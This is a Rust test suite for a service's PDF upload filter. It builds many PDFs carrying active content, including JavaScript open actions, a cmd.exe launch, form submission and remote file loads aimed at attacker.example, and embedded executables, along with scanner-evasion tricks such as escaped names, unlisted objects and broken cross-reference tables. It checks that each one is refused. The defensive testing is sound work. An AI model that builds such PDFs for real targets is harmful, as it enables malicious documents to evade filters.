//! Active content runs when a user opens a PDF or clicks in it (CWE-434). Each file is uploaded twice: with plain
//! objects, and with the objects in a compressed stream.

use super::{refusal, upload, user};
use crate::attacks::files::uploads::assert_nothing_is_stored;
use crate::support::pdf_files::{PdfFile, revised, stream};

const SCRIPT: &str = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const WEB: &str = "<< /S /URI /URI (https://attacker.example/) >>";

fn file() -> PdfFile {
    PdfFile::default()
}

fn annotation(entries: &str) -> PdfFile {
    file().page(&format!("/Annots [<< /Type /Annot /Rect [0 0 9 9] {entries} >>]"))
}

fn link(action: &str) -> PdfFile {
    annotation(&format!("/Subtype /Link /A {action}"))
}

fn attached(name: &str, subtype: &str, content: &[u8]) -> PdfFile {
    file()
        .catalog("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>")
        .object(&format!("<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 5 0 R >> >>"))
        .stream(&format!("/Type /EmbeddedFile /Subtype {subtype}"), content)
}

/// Returns description, a word of the expected message, and file.
fn active() -> Vec<(&'static str, &'static str, PdfFile)> {
    let invoice = b"<?xml version=\"1.0\"?><Invoice></Invoice>";
    vec![
        ("a script as open action", "JavaScript", file().catalog(&format!("/OpenAction {SCRIPT}"))),
        ("a script by reference", "JavaScript", file().catalog("/OpenAction 4 0 R").object(SCRIPT)),
        ("a script with an escaped name", "JavaScript", link("<< /#53 /J#61va#53cript /JS (x) >>")),
        ("a script whose type is a reference", "JavaScript", link("<< /S 4 0 R /JS (x) >>").object("/JavaScript")),
        ("a script whose text is a stream", "JavaScript", link("<< /S /JavaScript /JS 4 0 R >>").stream("", b"x")),
        ("a script between NULs", "JavaScript", link("<<\0/S\0/JavaScript\0/JS\0(x)>>")),
        ("a script between comments", "JavaScript", link("<</S%\n/JavaScript%)\n/JS(x)>>")),
        ("a script on a page", "JavaScript", file().page(&format!("/AA << /O {SCRIPT} >>"))),
        ("a script in a field", "JavaScript", annotation(&format!("/Subtype /Widget /FT /Tx /AA << /K {SCRIPT} >>"))),
        (
            "a script after a destination",
            "JavaScript",
            link(&format!("<< /S /GoTo /D [3 0 R /Fit] /Next [{SCRIPT}] >>")),
        ),
        ("a script to which nothing refers", "JavaScript", file().object(SCRIPT)),
        (
            "a script deep in arrays",
            "JavaScript",
            file().object(&format!("{}{SCRIPT}{}", "[".repeat(99), "]".repeat(99))),
        ),
        ("named scripts", "JavaScript", file().catalog("/Names << /JavaScript 4 0 R >>").object("<< /Names [] >>")),
        (
            "a script of a 3D model",
            "JavaScript",
            file().stream("/Type /3D /Subtype /U3D /OnInstantiate 5 0 R", b"").stream("", b"x"),
        ),
        ("a program", "program", link("<< /S /Launch /F (cmd.exe) >>")),
        ("a form that is sent", "form data", link("<< /S /SubmitForm /F (https://attacker.example/) >>")),
        ("form data from a file", "form data", link("<< /S /ImportData /F (\\\\\\\\attacker.example\\\\a.fdf) >>")),
        (
            "another file",
            "opens another file",
            link("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\a.pdf) /D [0 /Fit] >>"),
        ),
        ("an embedded file, opened", "opens another file", link("<< /S /GoToE /T << /R /C >> >>")),
        ("rich media", "media", annotation("/Subtype /RichMedia /RichMediaContent 4 0 R")),
        ("rich media, run", "media", link("<< /S /RichMediaExecute >>")),
        ("a film", "media", annotation("/Subtype /Movie /Movie << /F (a.avi) >>")),
        ("a film, run", "media", link("<< /S /Movie >>")),
        ("a sound", "media", annotation("/Subtype /Sound /Sound 4 0 R")),
        ("a sound, played", "media", file().page("/AA << /O << /S /Sound /Sound 4 0 R >> >>")),
        ("a rendition", "media", annotation("/Subtype /Screen /A << /S /Rendition /OP 0 >>")),
        ("an XFA form", "XFA", file().catalog("/AcroForm << /Fields [] /XFA 4 0 R >>").stream("", b"<xdp/>")),
        ("a web address as open action", "without a click", file().catalog(&format!("/OpenAction {WEB}"))),
        ("a web address by reference", "without a click", file().catalog("/OpenAction 4 0 R").object(WEB)),
        ("a web address on a page", "without a click", file().page(&format!("/AA << /O {WEB} >>"))),
        (
            "a web address after a destination",
            "without a click",
            file().catalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>").object(WEB),
        ),
        ("a program in a file", "another file", attached("a.exe", "/application#2Foctet-stream", b"MZ")),
        (
            "a script named as XML",
            "another file",
            attached("factur-x.xml", "/text#2Fxml", b"<script>alert(1)</script>"),
        ),
        ("an invoice named as a program", "another file", attached("invoice.exe", "/text#2Fxml", invoice)),
        ("an invoice of another type", "another file", attached("a.xml", "/text#2Fhtml", invoice)),
        (
            "an invoice with a document type",
            "another file",
            attached("a.xml", "/text#2Fxml", b"<!DOCTYPE Invoice [<!ENTITY a \"b\">]><Invoice></Invoice>"),
        ),
        (
            "an invoice with a style sheet",
            "another file",
            attached("a.xml", "/text#2Fxml", b"<?xml-stylesheet href=\"a.xsl\"?><Invoice></Invoice>"),
        ),
        (
            "a file on a page",
            "another file",
            annotation("/Subtype /FileAttachment /FS << /F (a.zip) /EF << /F 4 0 R >> >>").stream("", b"PK"),
        ),
        ("a file to which nothing refers", "another file", file().stream("/Type /EmbeddedFile", b"MZ")),
        (
            "two meanings of a key",
            "cannot be read whole",
            file().catalog("/OpenAction << /S /GoTo >> /OpenAction [3 0 R /Fit]"),
        ),
        ("a password", "password", file().trailer(ENCRYPTED)),
    ]
}

/// Entries of an encrypted PDF that no password opens, because the stored hashes are zeros.
const ENCRYPTED: &str = "/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4
    /O <0000000000000000000000000000000000000000000000000000000000000000>
    /U <0000000000000000000000000000000000000000000000000000000000000000> >>";

#[actix_web::test]
async fn active_content_is_refused_with_its_reason_plain_and_compressed() {
    let (app, alice) = user().await;
    let before = app.digest_all().await;
    for (what, reason, file) in active() {
        for (how, bytes) in [("plain", file.plain()), ("packed", file.packed())] {
            let what = format!("{what}, {how}");
            let message = refusal(&upload(&alice, &bytes).await, &what);
            assert!(message.contains(reason), "{what}: {message}");
        }
    }
    assert_eq!(app.digest_all().await, before);
    assert_nothing_is_stored(&app).await;
}

/// PDF readers repair files: without a valid cross-reference table, they scan the file for objects.
#[actix_web::test]
async fn active_content_that_only_a_repairing_reader_finds_is_refused() {
    let (_app, alice) = user().await;
    let unlisted = |object: &str| {
        let file = String::from_utf8(PdfFile::default().plain()).unwrap();
        // The object is inserted after the cross-reference table, so the offsets in the table stay correct.
        file.replace("startxref", &format!("9 0 obj {object} endobj\nstartxref")).into_bytes()
    };
    upload(&alice, &unlisted("null")).await.ok(201);
    let deep = format!("{}{SCRIPT}{}", "[".repeat(1000), "]".repeat(1000));
    let active = PdfFile::default().catalog(&format!("/OpenAction {SCRIPT}"));
    let without_start = String::from_utf8(active.plain()).unwrap().replace("startxref", "no");
    let mut wrong_start = active.packed();
    let last_digit = wrong_start.len() - 8;
    wrong_start[last_digit] ^= 1;
    let backwards = stream("/Type /ObjStm /N 2 /First 11", format!("20 70 21 0 {SCRIPT:<70}null").as_bytes());
    for (what, reason, bytes) in [
        ("an object that the table does not list", "JavaScript", unlisted(SCRIPT)),
        ("an object that is nested deeper than the parser goes", "whole", unlisted(&deep)),
        ("a nested object in the table", "whole", PdfFile::default().object(&deep).plain()),
        ("a nested object in an object stream", "whole", PdfFile::default().object(&deep).packed()),
        ("an object stream in the wrong order", "whole", unlisted(&String::from_utf8(backwards).unwrap())),
        ("no table", "JavaScript", without_start.into_bytes()),
        ("a table at another offset", "JavaScript", wrong_start),
    ] {
        let message = refusal(&upload(&alice, &bytes).await, what);
        assert!(message.contains(reason), "{what}: {message}");
    }
}

/// An incremental update of a PDF replaces objects. Readers ignore the replaced objects.
#[actix_web::test]
async fn last_revision_of_an_object_is_inspected() {
    let (_app, alice) = user().await;
    let sound = PdfFile::default().catalog("/OpenAction 4 0 R").object("[3 0 R /Fit]").plain();
    upload(&alice, &revised(&sound, 4, "[3 0 R /FitH 1]")).await.ok(201);
    assert!(refusal(&upload(&alice, &revised(&sound, 4, SCRIPT)).await, "added").contains("JavaScript"));
    let active = PdfFile::default().catalog("/OpenAction 4 0 R").object(SCRIPT).plain();
    upload(&alice, &revised(&active, 4, "[3 0 R /Fit]")).await.ok(201);
}
